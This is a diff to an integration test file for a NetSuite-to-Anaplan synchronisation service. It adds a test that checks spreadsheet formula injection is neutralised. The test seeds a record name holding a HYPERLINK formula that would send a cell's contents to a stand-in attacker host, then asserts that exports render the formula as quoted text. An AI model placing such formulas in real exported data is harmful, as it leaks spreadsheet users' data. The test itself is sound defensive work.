@@ -14,7 +14,7 @@ import * as path from 'node:path';
 import { MockActivityEnvironment } from '@temporalio/testing';
 import { DefaultLogger } from '@temporalio/worker';
 import { parseConfig, type ConnectionConfig, type ConnectionConfigInput } from '../../common/config';
-import type { PostJournalsResult } from '../../common/dto';
+import type { AlignResult, PostJournalsResult } from '../../common/dto';
 import { createActivities } from '../../activities';
 import { createPortsResolver } from '../../activities/cycle/connections';
 import type { CycleDeps } from '../../activities/cycle/context';
@@ -23,7 +23,7 @@ import type { StoredJournals } from '../../activities/cycle/plan';
 import { NetSuiteAuthError, NetSuiteClient, NetSuiteValidationError, type JournalEntryInput } from '../../activities/netsuite';
 import { openStores, type Stores } from '../../activities/store';
 import { createCertificate } from '../../sandbox/certs';
-import { sandboxConnection, startSandboxes, type Sandboxes } from '../../sandbox/embedded';
+import { sandboxConnection, sandboxNetsuitePins, startSandboxes, type Sandboxes } from '../../sandbox/embedded';
 
 const FAST_RETRY = { maxAttempts: 3, baseDelayMs: 5, maxDelayMs: 50, maxRetryAfterMs: 200 };
 const quietEnv = () => new MockActivityEnvironment(undefined, { logger: new DefaultLogger('ERROR') });
@@ -236,7 +236,7 @@ describe('bad inputs against the sandboxes', () => {
   it('an expired certificate stored in the vault fails preflight non-retryably, naming the connection and date, before any NetSuite call', async () => {
     const expired = await createCertificate({ kind: 'ec', notBefore: new Date(Date.now() - 400 * 86_400_000), days: 365 });
     const secret = stores.vault.get('bad-netsuite', 'netsuite');
-    stores.vault.set('expired-netsuite', 'netsuite', { ...secret, certificatePem: expired.certificatePem, privateKeyPem: expired.privateKeyPem }, { source: 'test' });
+    stores.vault.set('expired-netsuite', 'netsuite', { ...secret, certificatePem: expired.certificatePem, privateKeyPem: expired.privateKeyPem }, { source: 'test', ...sandboxNetsuitePins(sb) });
     const cfg = config((c) => {
       c.name = 'expired';
       c.netsuite = { ...c.netsuite!, credentials: 'expired-netsuite' };
@@ -251,5 +251,24 @@ describe('bad inputs against the sandboxes', () => {
     const before = (await loginAudit()).length;
     await tokenRefused(client({ privateKeyPem: rsa.privateKeyPem, algorithm: 'RS256' as never }), rsa.privateKeyPem, /algorithm RS256 is refused by NetSuite.*PS256.*ES256/);
     assert.equal((await loginAudit()).length, before, 'no token request was sent');
+  });
+  // ------------------------------------------------------------------ formula injection (issue 13 item 7)
+
+  it('a NetSuite name a spreadsheet would run as a formula reaches Anaplan and the artifact as text', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"open")';
+    const db = sb.netsuite.state.db;
+    const id = (db.prepare(`SELECT MAX(id) AS id FROM classification`).get() as { id: number }).id + 1;
+    db.prepare(`INSERT INTO classification (id, name, fullname, parent, isinactive) VALUES (?, ?, ?, NULL, 'F')`).run(id, evil, evil);
+    const r = (await quietEnv().run(acts.alignDimensions, { config: config(), cycleId: 'cycle:formula' })) as AlignResult;
+    assert.equal(r.dimensions.classes.unmapped, 0, 'the member maps: its code round-trips');
+    const list = (await (await fetch(`${sb.anaplan.url}/__sandbox/lists/Classes`)).json()) as { items: Array<{ code: string; name: string }> };
+    const item = list.items.find((i) => i.name.includes('HYPERLINK'));
+    assert.ok(item, 'the member was imported');
+    assert.equal(item.name, `'${evil}`, 'the name starts with a quote, so Excel shows it as text');
+    const files = fs.readdirSync(stores.artifacts.root).filter((f) => /^[0-9a-f]{64}$/.test(f)).map((f) => fs.readFileSync(path.join(stores.artifacts.root, f), 'utf8'));
+    const csv = files.find((t) => t.startsWith('Code,Name,Parent') && t.includes('HYPERLINK'));
+    assert.ok(csv, 'the list import file is an artifact');
+    assert.match(csv, /,"'=HYPERLINK\(""http:\/\/evil\.example/);
+    assert.doesNotMatch(csv, /(^|,|")=HYPERLINK/m);
   });
 });
